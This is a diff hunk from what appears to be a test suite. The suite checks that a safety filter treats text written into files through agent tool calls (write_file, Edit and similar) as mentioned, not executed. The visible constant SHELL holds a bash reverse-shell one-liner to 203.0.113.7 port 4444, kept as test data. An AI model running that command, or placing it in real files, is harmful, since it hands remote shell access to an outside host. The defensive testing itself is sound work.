@@ -18,7 +18,7 @@ const SHELL = 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1';
 describe('what is written into a file is mentioned there, not done', () => {
   test.each([
     ['write_file', { path: 'docs/users.md', content: MANUAL }],
-    ['write_file', { path: '/work/app/Dockerfile', content: `FROM debian:12\n${INSTALL}\n` }],
+    ['write_file', { path: '/home/me/app/Dockerfile', content: `FROM debian:12\n${INSTALL}\n` }],
     ['create_text_file', { relative_path: 'test/ssrf.test.ts', content: METADATA }],
     ['Edit', { file_path: 'README.md', old_string: 'x', new_string: INSTALL }],
     [
